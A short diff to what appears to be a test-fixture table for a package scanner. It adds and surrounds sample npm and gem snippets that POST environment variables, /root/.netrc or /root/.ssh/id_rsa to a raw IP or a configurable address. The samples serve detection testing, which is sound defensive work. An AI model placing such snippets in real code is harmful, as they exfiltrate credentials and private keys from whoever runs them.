@@ -140,6 +140,7 @@ OTHERS = {
     ("gem", "waits for a caller"): (
         "require 'net/http'\ndef f\n  Net::HTTP.post(URI('https://45.9.1.7/x'), File.read('/root/.netrc'))\nend\n"
     ),
+    ("npm", "asks the page's own host"): "fetch('settings.json', {method: 'POST', body: JSON.stringify(process.env)});\n",
     ("npm", "asks an address that is not constant"): (
         "const fs = require('fs');\n"
         "fetch(require('./settings').address, {method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa')});\n"
